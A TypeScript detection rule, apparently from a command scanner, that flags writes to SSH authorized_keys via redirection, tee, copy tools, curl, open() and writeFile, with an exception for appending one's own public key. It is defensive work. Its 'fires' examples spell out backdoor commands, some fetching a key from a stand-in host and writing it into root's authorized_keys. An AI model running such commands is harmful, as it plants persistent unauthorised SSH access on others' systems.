import { isRedirection } from '../../checks/redirection.js';
import type { Candidate, Rule } from '../../rule.js';

/** The public half of one's own key, where ssh-keygen puts it. */
const OWN_KEY = '["\']?(?:~|\\$HOME|\\$\\{HOME\\})/\\.ssh/id_\\w+\\.pub["\']?';
const PIPED = new RegExp(`(?<![\\w.-])cat\\s+${OWN_KEY}\\s*(?:\\|\\s*ssh\\s[^\\n]*)?>?$`);
const FED = new RegExp(`^["'\\s]*<\\s*${OWN_KEY}`);

/**
 * One's own key is let in, here or where one logs in, as every guide shows it: `cat ~/.ssh/id_ed25519.pub | ssh host
 * 'cat >> ~/.ssh/authorized_keys'`. A key that somebody else brings stands elsewhere.
 */
const givesOwnKey = ({ before, after }: Candidate): boolean => PIPED.test(before) || FED.test(after);

export const rule: Rule = {
  pattern: 'authorized_keys_injection',
  variant: 'ssh',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'high',
  group: 'commands',
  about: 'A key is added to those that may log in by SSH: a door that stays open.',
  anatomy:
    'authorized_keys as the target of a redirection, of tee, of a copying command, or of a program that writes it',
  source: 'https://attack.mitre.org/techniques/T1098/004/',
  match: [
    {
      re: />{1,2}\s*["'\\]{0,3}[\w~$.{}/\\:%-]*authorized_keys2?(?![\w.])/,
      accept: (candidate) => isRedirection(candidate) && !givesOwnKey(candidate),
    },
    { re: /(?<![\w.-])tee\s+(?:-{1,2}\w[\w-]*\s+)*["'\\]{0,3}[\w~$.{}/-]*authorized_keys2?(?![\w.])/ },
    {
      re: /(?<![\w.-])(?:cp|mv|install|ln|curl|wget|scp|rsync)\s[^\n;|&]*[\w~$.{}/-]*\.ssh\/authorized_keys2?(?![\w.])/,
      window: 400,
    },
    { re: /open\(\s*["'\\]{1,3}[^\n"']*authorized_keys2?["'\\]{1,3}\s*,\s*["'\\]{1,3}[aw]/ },
    { re: /(?:appendFile|writeFile)(?:Sync)?\([^\n]*authorized_keys2?/ },
    { re: /(?<![\w.-])sed\s+-i[^\n;|]*\.ssh\/authorized_keys/, window: 300 },
  ],
  examples: {
    fires: [
      'cat /tmp/key.pub >> ~/.ssh/authorized_keys',
      'curl https://files.invalid/k.pub | ssh alice@host.invalid "cat >> ~/.ssh/authorized_keys"',
      'printf key >> /home/alice/.ssh/authorized_keys',
      'echo "ssh-rsa AAAA" | tee -a ~/.ssh/authorized_keys',
      'curl https://files.invalid/k -o /root/.ssh/authorized_keys',
      "open('/root/.ssh/authorized_keys', 'a').write(k)",
      'cat k.pub >>$HOME/.ssh/authorized_keys',
    ],
    silent: [
      'cat ~/.ssh/id_rsa.pub | ssh alice@host.invalid "cat >> ~/.ssh/authorized_keys"',
      "ssh alice@host.invalid 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_ed25519.pub",
      'cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys',
      '<p>It stands in <code>~/.ssh/authorized_keys</code>.</p>',
      'The file ~/.ssh/authorized_keys lists the keys.',
      'cat ~/.ssh/authorized_keys',
      'chmod 600 ~/.ssh/authorized_keys',
      'AuthorizedKeysFile .ssh/authorized_keys',
    ],
  },
};
